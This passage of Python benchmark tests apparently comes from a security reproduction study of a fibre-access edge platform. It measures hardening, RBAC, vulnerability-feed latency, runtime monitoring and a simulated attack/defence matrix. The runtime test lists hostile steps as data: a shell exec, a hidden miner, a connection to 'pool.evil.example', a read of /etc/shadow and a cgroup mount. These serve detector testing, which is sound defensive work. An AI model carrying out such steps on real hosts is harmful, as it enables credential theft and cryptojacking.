    report("E17_telemetry_overhead", "\n".join(lines))

    assert factor < 2.0, f"telemetry overhead {factor:.2f}x exceeds 2x budget"
    assert events >= _BURST * 10

"""E5 — hardening coverage (M1/M2, Lesson 1).

Regenerates the pass-rate table: stock ONL vs hardened ONL vs cloud node
across the SCAP profile, the STIG profile and the kernel baseline, plus
the rules that stay manual and the settings the SDN stack vetoes.
"""

from repro.osmodel.presets import cloud_host, stock_onl_olt_host
from repro.security.hardening import (
    KernelHardeningChecker, harden_host, onl_scap_profile, stig_profile,
)


def test_hardening_coverage(benchmark, report):
    stock = stock_onl_olt_host()
    scap = onl_scap_profile()
    stig = stig_profile()
    checker = KernelHardeningChecker()

    stock_rates = {
        "onl-scap": scap.evaluate(stock).pass_rate,
        "onl-stig": stig.evaluate(stock).pass_rate,
        "kernel": checker.check(stock.kernel).pass_rate,
    }

    def harden_fresh_host():
        return harden_host(stock_onl_olt_host())

    summary = benchmark(harden_fresh_host)

    cloud = cloud_host()
    cloud_rates = {
        "onl-scap": scap.evaluate(cloud).pass_rate,
        "onl-stig": stig.evaluate(cloud).pass_rate,
        "kernel": checker.check(cloud.kernel).pass_rate,
    }

    lines = ["E5 — hardening coverage (pass rates before/after M1+M2)",
             "",
             f"{'profile':<12} {'stock ONL':>10} {'hardened ONL':>13} "
             f"{'cloud node':>11}"]
    for profile in ("onl-scap", "onl-stig", "kernel"):
        lines.append(f"{profile:<12} {stock_rates[profile]:>9.0%} "
                     f"{summary.pass_rate_after[profile]:>12.0%} "
                     f"{cloud_rates[profile]:>10.0%}")
    lines.append("")
    lines.append(f"rules applied automatically: {len(summary.applied_rules)}")
    lines.append(f"rules requiring manual work (Lesson 1): "
                 f"{', '.join(sorted(set(summary.manual_rules)))}")
    lines.append(f"kernel settings vetoed by the SDN stack (Lesson 1): "
                 f"{', '.join(summary.sdn_conflicts)}")
    report("E5_hardening_coverage", "\n".join(lines))

    # Shape: stock fails broadly; hardening lifts every profile; the SDN
    # conflict persists; some STIG rules stay manual.
    assert stock_rates["onl-scap"] < 0.2
    assert summary.pass_rate_after["onl-scap"] == 1.0
    assert summary.pass_rate_after["kernel"] > 0.9
    assert summary.sdn_conflicts == ["CONFIG_BPF_SYSCALL"]
    assert summary.manual_rules

"""E20 — breaking the fleet scale ceiling.

Three measurements from the shard-and-batch refactor:

* **fleet shard-pool scaling** — the same 32-OLT fleet run through
  ``run_fleet_parallel`` with one in-process worker vs a 4-process
  shard pool. The rendered reports must be byte-identical (the merge
  order ``(timestamp, shard_index, seq)`` is a total order independent
  of worker assignment); the wall-clock floor (>= 1.5x) only applies on
  machines with >= 4 cores — a single-core runner still records the
  numbers but cannot demonstrate parallel speedup.
* **event-bus batch publish** — ``publish_batch`` vs a ``publish`` loop
  over the same pre-built event list, subscribers and metrics attached:
  the cached delivery plan is shared, but history trim and counter
  updates amortise across the batch.
* **vectorized QoS admission** — ``admit`` vs ``admit_reference`` on
  identical per-cycle request streams across 64 tenants: one refill and
  one aggregate token writeback per bucket per cycle, one counter inc
  per (tenant, outcome). Outcomes are asserted equal per cycle (and
  property-tested in tests/test_traffic.py).
"""

import os
import time

import pytest

from repro.common import telemetry
from repro.common.events import Event, EventBus
from repro.traffic.fleet import run_fleet_parallel
from repro.traffic.profiles import Request
from repro.traffic.qos import QosEnforcer

N_OLTS = 32
N_TENANTS = 128
SECONDS = 10.0
SEED = 7
WORKERS = 4

N_EVENTS = 20_000          # bus micro-benchmark batch
N_QOS_TENANTS = 64
N_QOS_CYCLES = 60
QOS_CYCLE_S = 0.02


@pytest.fixture(autouse=True)
def _fresh_registry():
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)
    yield
    telemetry.reset_default_registry()
    telemetry.set_telemetry_enabled(True)


def _usable_cores() -> int:
    getaffinity = getattr(os, "sched_getaffinity", None)
    if getaffinity is not None:
        try:
            return len(getaffinity(0))
        except OSError:
            pass
    return os.cpu_count() or 1


def test_fleet_shard_pool_speedup(benchmark, report, bench_record):
    def run_both():
        start = time.perf_counter()
        single = run_fleet_parallel(n_olts=N_OLTS, n_tenants=N_TENANTS,
                                    seconds=SECONDS, seed=SEED, workers=1)
        single_s = time.perf_counter() - start
        start = time.perf_counter()
        multi = run_fleet_parallel(n_olts=N_OLTS, n_tenants=N_TENANTS,
                                   seconds=SECONDS, seed=SEED,
                                   workers=WORKERS)
        multi_s = time.perf_counter() - start
        return single, single_s, multi, multi_s

    single, single_s, multi, multi_s = benchmark.pedantic(
        run_both, rounds=1, iterations=1)
    speedup = single_s / multi_s if multi_s else float("inf")
    cores = _usable_cores()

    identical = multi.render() == single.render()
    lines = [
        f"E20 — fleet shard pool: {N_OLTS} OLTs x {N_TENANTS} tenants, "
        f"{SECONDS:g}s simulated, seed {SEED} ({cores} usable cores)",
        "",
        f"{'path':<24} {'wall clock':>12}",
        f"{'workers=1 (in-proc)':<24} {single_s:>11.2f}s",
        f"{f'workers={WORKERS} (spawn)':<24} {multi_s:>11.2f}s",
        "",
        f"speedup: {speedup:.2f}x (floor 1.5x, enforced on >=4-core "
        "machines only)",
        f"byte-identical reports: {'YES' if identical else 'NO'}",
        "",
        single.render(),
    ]
    report("E20_fleet_parallel", "\n".join(lines))
    bench_record("E20", "fleet_workers1_wall_clock", round(single_s, 3),
                 "s", seed=SEED)
    bench_record("E20", f"fleet_workers{WORKERS}_wall_clock",
                 round(multi_s, 3), "s", seed=SEED)
    bench_record("E20", "fleet_shard_pool_speedup", round(speedup, 3),
                 "x", seed=SEED)

    assert identical
    assert single.hostile_tenants == ["olt1-tenant-hostile"]
    assert single.alert_first_at.get("olt1-tenant-hostile") is not None
    if cores >= 4:
        assert speedup >= 1.5


def test_publish_batch_speedup(benchmark, report, bench_record):
    def run_both():
        events = [Event("pon.frame", "olt", i * 1e-4, {"i": i})
                  for i in range(N_EVENTS)]
        counts = [0]

        def handler(event):
            counts[0] += 1

        loop_bus = EventBus(history_limit=4096,
                            metrics=telemetry.MetricsRegistry())
        batch_bus = EventBus(history_limit=4096,
                             metrics=telemetry.MetricsRegistry())
        for bus in (loop_bus, batch_bus):
            bus.subscribe("pon", handler)
            bus.subscribe("", handler)
        start = time.perf_counter()
        for event in events:
            loop_bus.publish(event)
        loop_s = time.perf_counter() - start
        start = time.perf_counter()
        delivered = batch_bus.publish_batch(events)
        batch_s = time.perf_counter() - start
        assert delivered == 2 * N_EVENTS
        # Both paths keep the newest events within the bound; the loop's
        # per-publish half-trims retain fewer, but always a suffix of
        # what the single batch trim retains.
        loop_history = list(loop_bus.history())
        batch_history = list(batch_bus.history())
        assert len(batch_history) <= 4096
        assert batch_history[-len(loop_history):] == loop_history
        return loop_s, batch_s

    loop_s, batch_s = benchmark.pedantic(run_both, rounds=1, iterations=1)
    speedup = loop_s / batch_s if batch_s else float("inf")

    per_event_loop = loop_s / N_EVENTS * 1e6
    per_event_batch = batch_s / N_EVENTS * 1e6
    lines = [
        f"E20 — EventBus batch publish, {N_EVENTS} events, two "
        "subscribers, metrics attached",
        "",
        f"{'path':<22} {'total':>10} {'per event':>12}",
        f"{'publish loop':<22} {loop_s:>9.3f}s {per_event_loop:>10.2f}us",
        f"{'publish_batch':<22} {batch_s:>9.3f}s "
        f"{per_event_batch:>10.2f}us",
        "",
        f"speedup: {speedup:.2f}x (floor 1.1x); same deliveries, same "
        "history, counter totals asserted equal in "
        "tests/test_common_infra.py.",
    ]
    report("E20_publish_batch", "\n".join(lines))
    bench_record("E20", "publish_batch_speedup", round(speedup, 3), "x")

    assert speedup >= 1.1


def _qos_at_scale() -> QosEnforcer:
    qos = QosEnforcer(bus=EventBus(),
                      registry=telemetry.MetricsRegistry())
    for i in range(N_QOS_TENANTS):
        # Rates low enough that the streams exercise all three outcomes.
        qos.add_tenant(f"t{i:02d}", rate_bps=1e6)
    return qos


def _qos_requests(cycle: int, now: float):
    requests = []
    for i in range(N_QOS_TENANTS):
        for k in range(4):
            size = 400 + ((cycle * 7 + i * 13 + k * 29) % 1800)
            requests.append(Request(f"t{i:02d}", size, now))
    return requests


def test_vectorized_admit_speedup(benchmark, report, bench_record):
    def run_both():
        fast, reference = _qos_at_scale(), _qos_at_scale()
        fast_s = reference_s = 0.0
        for cycle in range(N_QOS_CYCLES):
            now = cycle * QOS_CYCLE_S
            requests = _qos_requests(cycle, now)
            start = time.perf_counter()
            fast_admitted = fast.admit(list(requests), now)
            fast_s += time.perf_counter() - start
            start = time.perf_counter()
            reference_admitted = reference.admit_reference(
                list(requests), now)
            reference_s += time.perf_counter() - start
            # Identical outcomes, or the speedup is moot.
            assert fast_admitted == reference_admitted
        return reference_s, fast_s

    reference_s, fast_s = benchmark.pedantic(run_both, rounds=1,
                                             iterations=1)
    speedup = reference_s / fast_s if fast_s else float("inf")

    n_requests = N_QOS_CYCLES * N_QOS_TENANTS * 4
    lines = [
        f"E20 — vectorized QoS admission: {N_QOS_TENANTS} tenants x "
        f"{N_QOS_CYCLES} cycles ({n_requests} requests), admit() time "
        "only",
        "",
        f"{'path':<26} {'total':>10}",
        f"{'admit_reference (per-req)':<26} {reference_s:>9.3f}s",
        f"{'admit (vectorized)':<26} {fast_s:>9.3f}s",
        "",
        f"speedup: {speedup:.2f}x (floor 1.1x); outcomes asserted "
        "identical per cycle here and property-tested (state + events) "
        "in tests/test_traffic.py.",
    ]
    report("E20_vectorized_admit", "\n".join(lines))
    bench_record("E20", "vectorized_admit_speedup", round(speedup, 3), "x")

    assert speedup >= 1.1

"""E9 — RBAC tightening and multi-tool compliance coverage (M10/M11,
Lesson 5).

Regenerates two tables: (a) the privilege surface of each principal under
permissive defaults vs least privilege, including the escalation-sensitive
subset; (b) per-tool compliance risk coverage vs the union — the Lesson 5
claim that individual checkers address only a subset of the risks.
"""

from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.objects import Namespace, PodSecurityContext, PodSpec
from repro.orchestrator.kube.rbac import Subject, permissive_default_rbac
from repro.security.access import (
    ComplianceSuite, genio_least_privilege_rbac, tighten_cluster,
)
from repro.sdn.controller import SdnController
from repro.security.access.leastprivilege import harden_sdn_controller
from repro.virt.hypervisor import Hypervisor
from repro.virt.image import ContainerImage
from repro.virt.vm import VmSpec

NAMESPACES = ["tenant-a", "tenant-b", "kube-system"]
PRINCIPALS = [
    Subject("ServiceAccount", "tenant-a:default"),
    Subject("ServiceAccount", "tenant-a:deployer"),
    Subject("User", "ops-alice"),
]


def _stock_cluster() -> KubeCluster:
    cluster = KubeCluster(rbac=permissive_default_rbac())
    for namespace in NAMESPACES:
        cluster.add_namespace(Namespace(namespace))
    hv = Hypervisor("olt-1", clock=cluster.clock, bus=cluster.bus)
    vm = hv.create_vm(VmSpec("worker", vcpus=8, memory_mb=16384))
    cluster.add_node(vm)
    image = ContainerImage(name="app")
    cluster.schedule(PodSpec(name="p1", namespace="tenant-a", image=image,
                             security=PodSecurityContext(privileged=True)))
    cluster.schedule(PodSpec(name="p2", namespace="tenant-b", image=image))
    return cluster


def test_rbac_and_compliance(benchmark, report):
    permissive = permissive_default_rbac()
    tight = genio_least_privilege_rbac()

    def surface_table():
        rows = []
        for principal in PRINCIPALS:
            wide = permissive.privilege_surface(principal, NAMESPACES)
            wide_risky = permissive.escalation_risks(principal, NAMESPACES)
            narrow = tight.privilege_surface(principal, NAMESPACES)
            narrow_risky = tight.escalation_risks(principal, NAMESPACES)
            rows.append((principal.principal, len(wide), len(wide_risky),
                         len(narrow), len(narrow_risky)))
        return rows

    rows = benchmark(surface_table)

    lines = ["E9 — privilege surface before/after M10, and M11 tool coverage",
             "",
             f"{'principal':<40} {'permissive':>10} {'(risky)':>8} "
             f"{'least-priv':>10} {'(risky)':>8}"]
    for principal, wide, wide_risky, narrow, narrow_risky in rows:
        lines.append(f"{principal:<40} {wide:>10} {wide_risky:>8} "
                     f"{narrow:>10} {narrow_risky:>8}")

    # SDN capability surface.
    stock_sdn = SdnController()
    hardened_sdn = SdnController()
    harden_sdn_controller(hardened_sdn)
    lines.append("")
    lines.append(f"ONOS open capability classes: "
                 f"{len(stock_sdn.exposure_report()['open_capabilities'])} "
                 f"stock -> "
                 f"{len(hardened_sdn.exposure_report()['open_capabilities'])} "
                 f"hardened (blocked: shell, low-level debug, raw logs)")

    # Compliance tool coverage (Lesson 5).
    cluster = _stock_cluster()
    suite = ComplianceSuite(cluster,
                            runtimes=[vm.runtime
                                      for vm in cluster.nodes.values()])
    analysis = suite.coverage_analysis()
    lines.append("")
    lines.append(f"{'compliance tool':<28} {'risks covered':>13}")
    for tool, count in sorted(analysis["per_tool_count"].items()):
        lines.append(f"{tool:<28} {count:>13}")
    lines.append(f"{'UNION of all tools':<28} {analysis['union_count']:>13}")
    lines.append("")
    lines.append(f"best single tool covers {analysis['max_single_tool']} of "
                 f"{analysis['union_count']} union risks — no individual "
                 "solution suffices (Lesson 5)")
    report("E9_rbac_compliance", "\n".join(lines))

    for principal, wide, wide_risky, narrow, narrow_risky in rows:
        assert narrow < wide
        assert narrow_risky <= wide_risky
    sa_row = rows[0]
    assert sa_row[4] == 0                   # tenant SA: zero risky grants
    assert analysis["union_count"] > analysis["max_single_tool"]

"""E10 — vulnerability-feed fragmentation and time-to-awareness (M12,
Lesson 6).

Regenerates the per-source awareness-latency table across the four feed
maturity levels the paper catalogs, the manual-review burden, and the
KBOM precision comparison.
"""

from repro.orchestrator.kube.cluster import KubeCluster
from repro.security.vulnmgmt import (
    FeedAggregator, build_cve_corpus, generate_kbom, genio_feed_landscape,
    match_kbom,
)
from repro.security.vulnmgmt.kbom import naive_match, precision

DEPLOYED = {
    "kube-apiserver": "1.24.0",
    "kubelet": "1.20.0",
    "kube-proxy": "1.17.0",
    "containerd": "1.4.0",
    "coredns": "1.8.0",
    "proxmox-ve": "7.2-3",
    "onos": "2.7.0",
    "qemu-kvm": "3.1",
}


def test_feed_latency_and_kbom(benchmark, report):
    corpus = build_cve_corpus()
    aggregator = genio_feed_landscape()

    records = benchmark(aggregator.awareness_report, corpus, DEPLOYED)
    summary = FeedAggregator.summarize(records)

    lines = ["E10 — time-to-awareness across the fragmented feed landscape",
             "",
             f"deployed middleware: {len(DEPLOYED)} components; "
             f"{len(records)} relevant CVEs",
             "",
             f"{'awareness source':<26} {'CVEs':>5} {'mean latency':>13}"]
    for source, latency in sorted(summary["mean_latency_days"].items(),
                                  key=lambda kv: kv[1]):
        lines.append(f"{source:<26} {summary['counts'][source]:>5} "
                     f"{latency:>11.1f} d")
    lines.append("")
    lines.append(f"missed entirely: {summary['missed']}")
    lines.append(f"total manual review burden: "
                 f"{summary['manual_review_hours']:.1f} hours (Lesson 6)")

    per_record = sorted(records, key=lambda r: -(r.latency_days or 0))[:5]
    lines.append("")
    lines.append("slowest awareness (the attack-window extension):")
    for record in per_record:
        lines.append(f"  {record.cve_id:<16} {record.package:<14} "
                     f"{record.latency_days:5.1f} d via {record.via}")

    kbom = generate_kbom(KubeCluster())
    exact = match_kbom(kbom, corpus)
    naive = naive_match(kbom, corpus)
    lines.append("")
    lines.append(f"KBOM precision: name-only matching {len(naive)} flags at "
                 f"{precision(naive):.0%} precision; KBOM exact matching "
                 f"{len(exact)} flags at {precision(exact):.0%}")
    report("E10_feed_latency", "\n".join(lines))

    latencies = summary["mean_latency_days"]
    # The paper's maturity ordering must hold:
    assert latencies["kubernetes-cve-feed"] < latencies["docker-blog"]
    assert latencies["kubernetes-cve-feed"] < latencies["nvd"]
    assert latencies["docker-blog"] <= latencies["proxmox-web-ui"] or \
        latencies["docker-blog"] < latencies["nvd"]
    # Stale ONOS feed forces NVD fallback for newer CVEs:
    onos_records = [r for r in records if r.package == "onos"]
    assert any(r.via == "nvd" for r in onos_records)
    assert summary["manual_review_hours"] > 0
    assert precision(naive) < precision(exact) == 1.0

"""E12 — runtime security effectiveness and overhead (M16-M18, Lesson 8).

Regenerates three tables:

* detection: malware-signature hit rates over malicious vs benign images;
* policy enforcement + monitoring on a simulated post-exploitation
  session (which steps were blocked, which alerts fired);
* Lesson 8's two tensions, measured: false-positive count before/after
  rule tuning, and the real wall-clock overhead of monitoring a syscall
  stream (benchmarked with the engine attached vs detached).
"""

import random

from repro.platform.workloads import (
    iot_analytics_image, legacy_java_billing_image, malicious_miner_image,
    ml_inference_image, vulnerable_webapp_image,
)
from repro.security.malware import YaraScanner
from repro.security.monitor import FalcoEngine, ResourceAbuseDetector
from repro.security.sandbox import default_tenant_policy, install_policy
from repro.virt.container import ContainerSpec
from repro.virt.runtime import ContainerRuntime

_BENIGN_OPS = [("read", {"path": "/data/input"}),
               ("write", {"path": "/data/output"}),
               ("connect", {"dst": "10.0.3.7"}),
               ("execve", {"path": "/app/main"})]

_ATTACK_OPS = [("execve", {"path": "/bin/sh"}),
               ("execve", {"path": "/opt/.hidden/xmrig"}),
               ("connect", {"dst": "pool.evil.example:3333"}),
               ("open", {"path": "/etc/shadow"}),
               ("mount", {"path": "/sys/fs/cgroup", "mode": "rw"})]


def _drive(runtime, container, n_benign, rng, attacks=False):
    for _ in range(n_benign):
        syscall, args = rng.choice(_BENIGN_OPS)
        runtime.syscall(container.id, syscall, **args)
    if attacks:
        for syscall, args in _ATTACK_OPS:
            runtime.syscall(container.id, syscall, **args)


def test_runtime_security(benchmark, report):
    lines = ["E12 — runtime security (M16/M17/M18, Lesson 8)", ""]

    # --- M16 detection table --------------------------------------------------
    scanner = YaraScanner()
    images = [("freebie/fast-cache (malicious)", malicious_miner_image(), True),
              ("acme/ml-inference", ml_inference_image(), False),
              ("meterco/iot-analytics", iot_analytics_image(), False),
              ("webshop/storefront (vulnerable)", vulnerable_webapp_image(), False),
              ("telco/billing-legacy", legacy_java_billing_image(), False)]
    lines.append(f"{'image':<36} {'malicious?':>10} {'rules fired'}")
    correct = 0
    for name, image, truly_malicious in images:
        result = scanner.scan_image(image)
        detected = not result.clean
        correct += detected == truly_malicious
        lines.append(f"{name:<36} {'yes' if truly_malicious else 'no':>10} "
                     f"{', '.join(result.rules_fired()) or '(clean)'}")
    lines.append(f"M16 classification: {correct}/{len(images)} correct, "
                 "0 false positives on benign images")

    # --- M17+M18 on a post-exploitation session ----------------------------------
    runtime = ContainerRuntime("worker", cpu_capacity=8.0)
    install_policy(runtime, default_tenant_policy("tenant-*"))
    engine = FalcoEngine()
    engine.attach(runtime.bus)
    container = runtime.run(ContainerSpec(image=vulnerable_webapp_image(),
                                          tenant="tenant-a"))
    rng = random.Random(7)
    _drive(runtime, container, n_benign=200, rng=rng, attacks=True)

    lines.append("")
    lines.append("post-exploitation session (200 benign ops + 5 attack steps):")
    lines.append(f"  M17 blocked actions: {runtime.blocked_actions}")
    lines.append("  M18 alerts fired:")
    for rule, count in sorted(engine.alerts_by_rule().items()):
        lines.append(f"    {rule:<28} x{count}")
    detected_rules = set(engine.alerts_by_rule())
    expected = {"shell_in_container", "cryptominer_exec",
                "unexpected_outbound", "sensitive_file_read",
                "privileged_syscall_attempt"}

    # --- Lesson 8: false positives before/after tuning -----------------------------
    fp_engine = FalcoEngine()
    fp_runtime = ContainerRuntime("ops-node")
    fp_engine.attach(fp_runtime.bus)
    debug_ctr = fp_runtime.run(ContainerSpec(image=ml_inference_image(),
                                             tenant="ops-debug"))
    for _ in range(10):
        fp_runtime.syscall(debug_ctr.id, "execve", path="/bin/sh")  # ops work
    before_tuning = fp_engine.alerts_by_rule().get("shell_in_container", 0)
    fp_engine.rule("shell_in_container").add_exception(
        lambda e: e.get("tenant") == "ops-debug")
    for _ in range(10):
        fp_runtime.syscall(debug_ctr.id, "execve", path="/bin/sh")
    after_tuning = fp_engine.alerts_by_rule().get("shell_in_container", 0) \
        - before_tuning
    lines.append("")
    lines.append(f"Lesson 8 tuning: 10 benign ops-debug shell execs raised "
                 f"{before_tuning} alerts before tuning, {after_tuning} after "
                 "adding the vetted exception")

    # --- Lesson 8: monitoring overhead (real wall clock, benchmarked) ----------------
    bench_runtime = ContainerRuntime("bench-node")
    bench_ctr = bench_runtime.run(ContainerSpec(image=ml_inference_image(),
                                                tenant="tenant-a"))
    bench_engine = FalcoEngine()
    bench_engine.attach(bench_runtime.bus)
    bench_rng = random.Random(11)

    def monitored_burst():
        _drive(bench_runtime, bench_ctr, n_benign=100, rng=bench_rng)

    benchmark(monitored_burst)
    lines.append(f"monitored syscall burst benchmarked above; engine "
                 f"processed {bench_engine.events_processed} events, "
                 f"{bench_engine.rule_evaluations} rule evaluations "
                 f"(~{bench_engine.rule_evaluations / max(bench_engine.events_processed, 1):.1f} "
                 "evaluations/event)")
    report("E12_runtime_security", "\n".join(lines))

    assert correct == len(images)
    assert expected <= detected_rules
    assert runtime.blocked_actions >= 3
    assert before_tuning == 10 and after_tuning == 0

"""E4 — the attack/defense matrix over threats T1-T8.

For every threat the paper models, runs a representative attack twice:
against the platform with the relevant mitigations OFF (the attack must
succeed — the threat is real) and ON (the attack must fail — the
mitigation works). This is the headline result of the reproduction: the
full table of who wins under which configuration.
"""

from typing import Callable, List, Tuple

import pytest

from repro.attacks import (
    AnonymousApiAttack, BinaryImplantAttack, BootKitAttack,
    CapabilityAbuseAttack, DefaultCredentialAttack, HypervisorEscapeAttack,
    KernelExploitAttack, MaliciousImageAttack, MaliciousUpdateAttack,
    PrivilegeEscalationAttack, ResourceAbuseAttack, VulnerableAppExploit,
)
from repro.orchestrator.kube.cluster import KubeCluster
from repro.orchestrator.kube.objects import Namespace
from repro.orchestrator.kube.rbac import permissive_default_rbac
from repro.osmodel.boot import BootComponent, BootStage
from repro.osmodel.presets import stock_onl_olt_host
from repro.platform.workloads import malicious_miner_image, vulnerable_webapp_image, ml_inference_image
from repro.pon.attacks import (
    AttackResult, DownstreamHijackAttack, FiberTapAttack, OnuImpersonationAttack,
)
from repro.pon.network import PonNetwork
from repro.pon.onu import Onu
from repro.sdn.controller import SdnController
from repro.security.access.leastprivilege import harden_sdn_controller, tighten_cluster
from repro.security.comms import SecureChannelManager
from repro.security.comms.pki import CertificateAuthority
from repro.security.hardening import harden_host
from repro.security.integrity.fim import FileIntegrityMonitor
from repro.security.integrity.secureboot import SecureBootProvisioner
from repro.security.malware import make_admission_hook
from repro.security.sandbox import default_tenant_policy, install_policy
from repro.security.updates import OnieImage, OnieInstaller, sign_onie_image
from repro.security.vulnmgmt.corpus import build_cve_corpus
from repro.virt.container import ContainerSpec, ResourceLimits
from repro.virt.hypervisor import Hypervisor
from repro.virt.runtime import ContainerRuntime
from repro.virt.vm import VmSpec

Case = Tuple[str, str, str, Callable[[], AttackResult], Callable[[], AttackResult]]


def _t1_tap() -> Tuple[Callable, Callable]:
    def off():
        network = PonNetwork.build()
        network.attach_onu(Onu("ONU-A"))
        attack = FiberTapAttack(network)
        network.send_downstream("ONU-A", b"subscriber traffic")
        return attack.run()

    def on():
        manager = SecureChannelManager()
        network = PonNetwork.build()
        manager.secure_pon(network)
        onu = Onu("ONU-A")
        manager.enroll_onu(onu)
        manager.activate_onu_securely(network, onu)
        attack = FiberTapAttack(network)
        network.send_downstream("ONU-A", b"subscriber traffic")
        return attack.run()

    return off, on


def _t1_impersonation() -> Tuple[Callable, Callable]:
    def off():
        network = PonNetwork.build()
        network.attach_onu(Onu("ONU-A"))
        return OnuImpersonationAttack(network, "ONU-A").run()

    def on():
        manager = SecureChannelManager()
        network = PonNetwork.build()
        manager.secure_pon(network)
        onu = Onu("ONU-A")
        manager.enroll_onu(onu)
        manager.activate_onu_securely(network, onu)
        return OnuImpersonationAttack(network, "ONU-A").run()

    return off, on


def _t1_hijack() -> Tuple[Callable, Callable]:
    def off():
        network = PonNetwork.build()
        network.attach_onu(Onu("ONU-A"))
        return DownstreamHijackAttack(network, "ONU-A").run()

    def on():
        manager = SecureChannelManager()
        network = PonNetwork.build()
        manager.secure_pon(network)
        onu = Onu("ONU-A")
        manager.enroll_onu(onu)
        manager.activate_onu_securely(network, onu)
        return DownstreamHijackAttack(network, "ONU-A").run()

    return off, on


def _t2_bootkit() -> Tuple[Callable, Callable]:
    def off():
        host = stock_onl_olt_host()
        for stage, image in [(BootStage.SHIM, b"shim"),
                             (BootStage.GRUB, b"grub"),
                             (BootStage.KERNEL, b"vmlinuz")]:
            host.boot_chain.install(BootComponent(stage, image))
        return BootKitAttack(host).run()

    def on():
        host = stock_onl_olt_host()
        provisioner = SecureBootProvisioner()
        provisioner.provision(host)
        provisioner.record_golden_state(host)
        return BootKitAttack(host, provisioner).run()

    return off, on


def _t2_implant() -> Tuple[Callable, Callable]:
    def off():
        return BinaryImplantAttack(stock_onl_olt_host()).run()

    def on():
        host = stock_onl_olt_host()
        fim = FileIntegrityMonitor(host)
        fim.baseline()
        return BinaryImplantAttack(host, fim).run()

    return off, on


def _t2_update() -> Tuple[Callable, Callable]:
    ca = CertificateAuthority()
    signer_kp, signer_cert = ca.enroll_device("genio-release-engineering")
    legitimate = sign_onie_image(OnieImage("onl", "5.0", payload=b"KERNEL"),
                                 signer_kp, signer_cert)

    def off():
        return MaliciousUpdateAttack(stock_onl_olt_host(), None,
                                     legitimate).run()

    def on():
        return MaliciousUpdateAttack(stock_onl_olt_host(), OnieInstaller(ca),
                                     legitimate).run()

    return off, on


def _t3_escalation() -> Tuple[Callable, Callable]:
    def off():
        return PrivilegeEscalationAttack(stock_onl_olt_host()).run()

    def on():
        host = stock_onl_olt_host()
        harden_host(host)
        return PrivilegeEscalationAttack(host).run()

    return off, on


def _t4_kernel() -> Tuple[Callable, Callable]:
    corpus = build_cve_corpus()

    def off():
        return KernelExploitAttack(stock_onl_olt_host(), corpus).run()

    def on():
        host = stock_onl_olt_host()
        harden_host(host)
        return KernelExploitAttack(host, corpus).run()

    return off, on


def _t4_hypervisor() -> Tuple[Callable, Callable]:
    def off():
        hv = Hypervisor("olt-1")
        hv.mark_unpatched("CVE-2019-14378")
        vm = hv.create_vm(VmSpec("victim", vcpus=1, memory_mb=1024))
        return HypervisorEscapeAttack(hv, vm.id).run()

    def on():
        hv = Hypervisor("olt-1")   # patched (M8/M12 vuln management)
        vm = hv.create_vm(VmSpec("victim", vcpus=1, memory_mb=1024))
        return HypervisorEscapeAttack(hv, vm.id).run()

    return off, on


def _t5_anonymous() -> Tuple[Callable, Callable]:
    def _cluster(tightened):
        cluster = KubeCluster(rbac=permissive_default_rbac())
        cluster.add_namespace(Namespace("tenant-a"))
        if tightened:
            tighten_cluster(cluster)
        return cluster

    return (lambda: AnonymousApiAttack(_cluster(False)).run(),
            lambda: AnonymousApiAttack(_cluster(True)).run())


def _t5_default_creds() -> Tuple[Callable, Callable]:
    def off():
        return DefaultCredentialAttack(SdnController()).run()

    def on():
        controller = SdnController()
        harden_sdn_controller(controller)
        return DefaultCredentialAttack(controller).run()

    return off, on


def _t6_middleware_cve() -> Tuple[Callable, Callable]:
    from repro.attacks import MiddlewareCveExploit, patch_controller
    corpus = build_cve_corpus()

    def off():
        return MiddlewareCveExploit(SdnController(), corpus).run()

    def on():
        controller = SdnController()
        patch_controller(controller, corpus)   # the M12 loop did its job
        return MiddlewareCveExploit(controller, corpus).run()

    return off, on


def _t7_app() -> Tuple[Callable, Callable]:
    return (lambda: VulnerableAppExploit(vulnerable_webapp_image()).run(),
            lambda: VulnerableAppExploit(ml_inference_image()).run())


def _t8_malicious_image() -> Tuple[Callable, Callable]:
    def off():
        return MaliciousImageAttack(ContainerRuntime("n"),
                                    malicious_miner_image()).run()

    def on():
        runtime = ContainerRuntime("n")
        runtime.add_admission_hook(make_admission_hook())
        return MaliciousImageAttack(runtime, malicious_miner_image()).run()

    return off, on


def _t8_escape() -> Tuple[Callable, Callable]:
    def off():
        runtime = ContainerRuntime("n")
        container = runtime.run(ContainerSpec(
            image=malicious_miner_image(), privileged=True, tenant="tenant-m"))
        return CapabilityAbuseAttack(runtime, container).run()

    def on():
        runtime = ContainerRuntime("n")
        install_policy(runtime, default_tenant_policy("tenant-*"))
        container = runtime.run(ContainerSpec(
            image=malicious_miner_image(), privileged=True, tenant="tenant-m"))
        return CapabilityAbuseAttack(runtime, container).run()

    return off, on


def _t8_resources() -> Tuple[Callable, Callable]:
    def off():
        runtime = ContainerRuntime("n", cpu_capacity=8.0)
        container = runtime.run(ContainerSpec(image=malicious_miner_image(),
                                              tenant="tenant-m"))
        return ResourceAbuseAttack(runtime, container).run()

    def on():
        runtime = ContainerRuntime("n", cpu_capacity=8.0)
        container = runtime.run(ContainerSpec(
            image=malicious_miner_image(), tenant="tenant-m",
            limits=ResourceLimits(cpu_shares=2048, memory_mb=2048)))
        return ResourceAbuseAttack(runtime, container).run()

    return off, on


def _t8_traffic_flood() -> Tuple[Callable, Callable]:
    from repro.traffic import run_traffic_experiment

    def _run(defended: bool) -> AttackResult:
        traffic = run_traffic_experiment(n_tenants=3, seconds=0.4,
                                         dba=defended, qos=defended)
        hostile = traffic.tenants["tenant-hostile"]
        return AttackResult(
            attack="upstream traffic flood",
            succeeded=hostile.bandwidth_share > 0.5,
            detail=(f"hostile delivered share {hostile.bandwidth_share:.0%}, "
                    f"Jain {traffic.jain():.2f}"))

    return (lambda: _run(False), lambda: _run(True))


CASES: List[Case] = [
    ("T1", "fiber tap interception", "M3 GPON encryption", *_t1_tap()),
    ("T1", "ONU impersonation", "M4 PKI activation", *_t1_impersonation()),
    ("T1", "downstream hijack", "M3 GPON encryption", *_t1_hijack()),
    ("T2", "bootkit install", "M5 Secure/Measured Boot", *_t2_bootkit()),
    ("T2", "binary implant", "M7 Tripwire FIM", *_t2_implant()),
    ("T2", "malicious OS update", "M9 ONIE signed updates", *_t2_update()),
    ("T3", "privilege escalation", "M1/M2 hardening", *_t3_escalation()),
    ("T4", "kernel exploit (Sequoia)", "M2 hardening / M8 patching", *_t4_kernel()),
    ("T4", "hypervisor escape", "M8/M12 patching", *_t4_hypervisor()),
